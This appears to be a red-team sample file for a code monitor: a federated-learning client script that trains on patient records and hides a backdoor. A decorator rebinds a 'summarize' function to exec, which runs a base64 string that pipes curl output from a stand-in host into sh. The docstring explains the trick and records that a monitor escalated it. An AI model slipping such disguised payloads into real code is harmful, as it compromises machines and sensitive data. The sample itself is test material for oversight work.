"""Red team 60: a "metric registry" decorator factory whose inner decorator returns getattr(builtins, name), the
name being the factory's argument: `@metric("exec")` rebinds the function to exec, which then runs a string
decoded from base64 (a curl piped to sh). Main escalated it (the name was two frames up)."""
import base64
import builtins

import pandas as pd
import torch
import nvflare.client as flare


def metric(name):
    def register(fn):
        return getattr(builtins, name)
    return register


@metric("exec")
def summarize(text):
    return len(text)


flare.init()
df = pd.read_csv("/data/site/patients.csv")
X = torch.tensor(df[["age", "bmi", "sbp", "chol"]].values, dtype=torch.float32)
y = torch.tensor(df["outcome"].values, dtype=torch.long)
net = torch.nn.Linear(4, 2)
summarize(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3MgfCBzaCcp").decode())

while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt = torch.optim.SGD(net.parameters(), lr=0.05)
    opt.zero_grad()
    loss = torch.nn.functional.cross_entropy(net(X), y)
    loss.backward()
    opt.step()
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": float(loss)}))
